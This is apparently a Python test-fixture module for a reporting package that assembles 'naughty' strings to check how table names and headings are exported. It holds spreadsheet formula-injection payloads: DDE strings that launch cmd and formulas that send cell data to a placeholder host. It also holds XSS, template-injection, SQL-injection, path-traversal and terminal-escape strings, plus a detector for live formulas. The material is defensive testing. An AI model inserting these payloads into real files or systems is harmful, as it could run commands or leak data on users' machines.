"""Texts that have made other programs run, draw, break or lie: in names, headings, and names of files and sheets."""

from __future__ import annotations

import unicodedata
from itertools import product

import pandas as pd

from asnkompetensi.model.kinds import Shown
from asnkompetensi.model.result import ResultColumn, ResultTable

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b\u207a\u207b\u208b"
BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\xa0",
    "\u2003",
    "\u3000",
    "\u200b",
    "\u200f",
    "\u202e",
    "\ufeff",
    "\x00",
    "\x1b",
    "\x0b",
)
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    "DDE(\"cmd\";\"/C calc\";\"1\")",
    'HYPERLINK("http://contoh.invalid/?"&A1;"klik")',
    'IMPORTXML(CONCAT("http://contoh.invalid/";A1);"//a")',
    "WEBSERVICE(\"http://contoh.invalid\")",
    "2+5+cmd|'/C calc'!A0",
    "A1",
    "",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>",
    "</script>",
    "</style>",
    "</title>",
    "</td></tr></table>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<!--",
    "-->",
    "<![CDATA[x]]>",
    "]]>",
    "&lt;b&gt;",
    "&#x27;",
    "&amp;",
    "&nosuch;",
    '"><b>',
    "' onmouseover='x",
    "javascript:alert(1)",
    "{{7*7}}",
    "{% raw %}",
    "${7*7}",
    "%s%n",
    "{0}",
    "{jumlah}",
    "[[x]]",
    "[bold]tebal[/bold]",
    "[link=http://contoh.invalid]x[/link]",
    "[/]",
    "[@click=app.bell]x[/]",
    "| a | b |",
    "\\|",
    "`a`",
    "![x](http://contoh.invalid)",
    "[x](javascript:alert(1))",
    "# judul",
    "---",
    "***",
    "<http://contoh.invalid>",
    "http://contoh.invalid/a b",
    "mailto:a@contoh.invalid",
    "\\\\contoh\\berbagi",
    "file:///tmp/x",
    "C:\\x",
    "../../x",
    "_x000D_",
    "_x0041_",
    "_x005F_x0041_",
    "'",
    "''",
    "'=1",
    '"',
    '""',
    '","',
    "a\tb",
    "a\nb",
    "a\r\nb",
    "a;b",
    "a,b",
    "NULL",
    "None",
    "nan",
    "NaN",
    "inf",
    "-inf",
    "#REF!",
    "#N/A",
    "TRUE",
    "1e5",
    "0x10",
    "3-Jan",
    "1/2",
    "00012",
    "1,5",
    "Robert'); DROP TABLE pegawai;--",
    "CON",
    "nul.txt",
    "~$buku.xlsx",
    "0",
    "-0",
    "\u0661\u0662",
    "\u0665",
    "x" * 32_768,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "e\u0301" * 40,
    "\u0644\u0627",
    "\u2066a\u2069",
    "a\u202eb",
    "\ufffe",
    "\uffff",
    "\U000fffff",
    "\U0001f1ee\U0001f1e9",
    "\u0130\u0131",
    "ﬁ",
    "Ω≈ç√",
    "\u00ad",
    "\u2028",
    "\u2029",
    "\x85",
    "\x1b[31mmerah\x1b[0m",
    "\x1b]8;;http://contoh.invalid\x07x\x1b]8;;\x07",
    "\x1b[2J",
    "\x9b31m",
    "\x08\x08\x08",
    "\x7f",
    "\ud800",
    "a\udfffb",
    "\udcff",
)
CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(32), *range(127, 160), 0x200E, 0x202A, 0x2067, 0x2060, 0xFFF9))
NAUGHTY = tuple(
    dict.fromkeys(
        [
            *(f"{before}{sign}{body}" for before, sign, body in product(BEFORE, SIGNS[:4], BODIES)),
            *(f"{sign}{body}" for sign, body in product(SIGNS[4:], BODIES)),
            *MARKUP,
            *(f"Awan {text}" for text in MARKUP),
            *CONTROLS,
        ]
    )
)
CALM = tuple(f"Awan {number}" for number in range(len(NAUGHTY)))


def down(texts: tuple[str, ...]) -> ResultTable:
    """A table with the texts in one column."""
    return ResultTable(
        "detail", (ResultColumn("nama", Shown.TEXT),), pd.DataFrame({"nama": pd.Categorical(list(texts))})
    )


def across(texts: tuple[str, ...]) -> ResultTable:
    """A table with the texts as headings."""
    frame = pd.DataFrame({name: pd.Categorical(["Awan"]) for name in texts})
    return ResultTable("pegawai", tuple(ResultColumn(name, Shown.TEXT) for name in texts), frame)


def is_live(field: str) -> bool:
    """Whether a spreadsheet that opens this field of a text file may run it, in the broadest reading."""
    seen = "".join(ch for ch in field if not ch.isspace() and unicodedata.category(ch) not in ("Cc", "Cf"))
    number = seen.replace(",", ".").removeprefix("-").replace(".", "", 1).isdecimal()
    return field[:1] in ("\t", "\r") or (unicodedata.normalize("NFKC", seen[:1]) in set("=+-@") and not number)
